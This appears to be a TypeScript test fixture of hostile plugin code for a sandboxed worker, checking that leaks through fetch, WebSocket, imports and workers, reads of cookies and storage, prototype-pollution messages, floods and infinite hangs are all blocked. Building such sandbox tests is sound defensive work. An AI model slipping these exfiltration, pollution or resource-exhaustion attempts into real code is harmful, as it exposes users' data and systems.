// What hostile code tries, as module text for the worker. Each attempt reports how it ended.

/** Code that means no harm: what works in any sandbox that is up. */
export const answers = { code: `export default () => 'alive'` }

/** Reports `refused: …` or `reached: …` for each attempt, none of which may reach anything. */
const module = (attempts: string) => `
export default async ({ origin }) => {
  const leak = (what) => origin + '/leak/' + what
  const attempts = ${attempts}
  const ended = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const late = new Promise((_, reject) => setTimeout(reject, 1500, new Error('no answer')))
      ended[name] = 'reached: ' + String(await Promise.race([attempt(leak(name)), late]))
    } catch (error) {
      ended[name] = 'refused: ' + String(error?.message ?? error?.type ?? error)
    }
  }
  return ended
}`

export const network = module(`{
  fetch: (url) => fetch(url),
  noCors: (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  xhr: (url) => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest()
    request.onload = resolve
    request.onerror = reject
    request.open('GET', url)
    request.send()
  }),
  webSocket: (url) => new Promise((resolve, reject) => {
    const socket = new WebSocket(url.replace('http', 'ws'))
    socket.onopen = resolve
    socket.onerror = reject
  }),
  eventSource: (url) => new Promise((resolve, reject) => {
    const source = new EventSource(url)
    source.onopen = resolve
    source.onerror = reject
  }),
  webTransport: (url) => new WebTransport(url.replace('http:', 'https:')).ready,
  remoteImport: (url) => import(url),
  dataImport: () => import('data:text/javascript,export default 1'),
  importInBlob: (url) => {
    const text = 'import ' + JSON.stringify(url)
    return import(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))
  },
  importScripts: (url) => importScripts(url),
  font: (url) => new FontFace('leak', 'url(' + url + ')').load(),
  eval: () => (0, eval)('1'),
  worker: (url) => new Promise((resolve, reject) => {
    const worker = new Worker(url)
    worker.onmessage = resolve
    worker.onerror = reject
  }),
  sharedWorker: (url) => new Promise((resolve, reject) => {
    const worker = new SharedWorker(url)
    worker.port.onmessage = resolve
    worker.onerror = reject
  }),
  dataWorker: (url) => new Promise((resolve, reject) => {
    const text = 'fetch(' + JSON.stringify(url) + ').then(() => postMessage(1), (e) => { throw e })'
    const worker = new Worker('data:text/javascript,' + encodeURIComponent(text))
    worker.onmessage = resolve
    worker.onerror = reject
  }),
}`)

export const storage = module(`{
  indexedDB: () => new Promise((resolve, reject) => {
    const request = indexedDB.open('plugboard')
    request.onsuccess = resolve
    request.onerror = reject
  }),
  databases: () => indexedDB.databases(),
  caches: () => caches.open('plugboard'),
  cacheKeys: () => caches.keys(),
  privateFiles: () => navigator.storage.getDirectory(),
  localStorage: () => localStorage.getItem('secret'),
  sessionStorage: () => sessionStorage.getItem('secret'),
  cookies: () => document.cookie,
  cookieStore: () => cookieStore.getAll(),
  locks: () => navigator.locks.query(),
}`)

export const broadcast = module(`{
  broadcast: () => {
    new BroadcastChannel('plugboard').postMessage('forged')
    throw new Error('sent')
  },
}`)

/** Messages that break a rule of the relay or of the event schema: each must end the sandbox. */
export const forbiddenMessages = {
  'a port': `export default ({ ports }) => {
    const { port1 } = new MessageChannel()
    ports.events.postMessage([port1], [port1])
  }`,
  'text of 5 MB': `export default ({ ports }) => ports.rpc.postMessage('x'.repeat(5e6))`,
  'a buffer of 100 MB': `export default ({ ports }) => ports.rpc.postMessage(new ArrayBuffer(1e8))`,
  'an array of four billion holes': `export default ({ ports }) => ports.events.postMessage(new Array(4e9))`,
  'deep objects': `export default ({ ports }) => {
    let deep = {}
    for (let i = 0; i < 200; i++) deep = { deep }
    ports.events.postMessage([deep])
  }`,
  'a cycle': `export default ({ ports }) => {
    const cycle = {}
    cycle.self = cycle
    ports.events.postMessage([cycle])
  }`,
  'a graph that is vast as a tree': `export default ({ ports }) => {
    let node = [1]
    for (let i = 0; i < 30; i++) node = [node, node]
    ports.events.postMessage(node)
  }`,
  'a prototype key': `export default ({ ports }) =>
    ports.events.postMessage([JSON.parse('{"__proto__": {"polluted": true}}')])`,
  'a blob': `export default ({ ports }) => ports.events.postMessage([new Blob(['x'])])`,
  'a bigint': `export default ({ ports }) => ports.events.postMessage([1n])`,
  'an event that breaks its schema': `export default ({ send }) =>
    send([{ seq: 1, time: 0, type: 'plugin.state', data: { name: 1, state: 'nowhere' } }])`,
  'no batch of events': `export default ({ ports }) => ports.events.postMessage({ type: 'log' })`,
}

export const floods = {
  events: `export default ({ send }) => { for (;;) send([]) }`,
  replies: `export default ({ ports }) => { for (;;) ports.rpc.postMessage({ id: 'x', value: 1 }) }`,
  activity: `export default ({ ports }) => { for (;;) ports.activity.postMessage(['beat']) }`,
  'the worker itself': `export default () => { for (;;) postMessage(0) }`,
  data: `export default ({ ports }) => { for (;;) ports.rpc.postMessage('x'.repeat(1e6)) }`,
  buffers: `export default ({ ports }) => { for (;;) ports.rpc.postMessage(new ArrayBuffer(4e6)) }`,
}

export const hangs = {
  'at module level': `for (;;) {}`,
  'in a call': `export default () => { for (;;) {} }`,
  'in a timer': `export default () => { setTimeout(() => { for (;;) {} }) }`,
  'in a promise chain': `export default () => {
    const again = () => Promise.resolve().then(again)
    return again()
  }`,
}
